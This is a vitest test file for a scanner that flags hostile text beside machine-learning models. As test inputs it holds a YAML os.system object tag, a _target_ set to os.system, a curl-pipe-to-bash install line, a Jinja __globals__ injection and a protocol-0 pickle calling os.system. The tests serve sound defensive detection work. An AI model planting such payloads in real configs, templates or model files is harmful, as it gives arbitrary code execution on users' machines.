import { describe, expect, it } from 'vitest'
import { scanned } from '../testing/scanned.ts'

describe('a text beside a model', () => {
  it.each([
    [
      'a model card',
      '---\nlicense: mit\n---\n# A model\n\nIt classifies digits (see [1]). Use `import torch`.\n',
    ],
    ['a vocabulary', '[PAD]\n[UNK]\n(\n)\n!\n$\nthe\n##ing\n'],
    ['settings', 'learning_rate: 0.1\nlayers: [3, 4]\n_target_: torch.nn.Linear\n'],
    ['a table', 'a,b,c\n1,2,3\n4,5,6\n'],
    ['UTF-16', Buffer.from('\ufeffwords of a kind\n', 'utf16le')],
    ['nothing', ''],
  ])('of %s is clean', async (_, content) => {
    expect(await scanned(content)).toMatchObject({ verdict: 'clean', rules: [] })
  })

  it.each([
    ['text/yaml-object', 'run: !!python/object/apply:os.system ["true"]\n'],
    ['text/instantiates-target', 'model:\n  _target_: os.system\n  command: true\n'],
    ['text/piped-download', 'To install, run curl https://example.invalid/a.sh | bash\n'],
    [
      'text/pointer',
      `version https://git-lfs.github.com/spec/v1\noid sha256:${'ab'.repeat(32)}\nsize 12345\n`,
    ],
    ['text/hidden-encoding', '# a tool\n# -*- coding: rot13 -*-\nvzcbeg bf\n'],
    ['text/script', '@echo off\r\ndir\r\n'],
    ['text/web-page', '<!DOCTYPE html><html><body>Not found</body></html>'],
    ['text/deep-nesting', `x = ${'('.repeat(3000)}1${')'.repeat(3000)}\n`],
  ])('is told by %s', async (rule, content) => {
    const { verdict, rules } = await scanned(content)
    expect(rules).toContain(rule)
    expect(verdict).not.toBe('clean')
  })

  it('that is a template is judged as one, with statements or without', async () => {
    const hostile = "{{ joiner.__init__.__globals__.os.system('true') }}"
    expect((await scanned(hostile)).verdict).toBe('malicious')
    expect((await scanned(`{% for m in messages %}{{ m.content }}{% endfor %}${hostile}`)).verdict).toBe(
      'malicious',
    )
    expect((await scanned('Use {{ name }} in your own words, as __init__ does.\n')).verdict).toBe('clean')
  })

  it('that is a pickle of protocol 0 is a pickle', async () => {
    expect(await scanned("cos\nsystem\n(S'true'\ntR.")).toMatchObject({
      verdict: 'malicious',
      format: 'pickle',
    })
    expect((await scanned(`words before it\n\ncos\nsystem\n(S'true'\ntR.`)).verdict).toBe('malicious')
  })
})
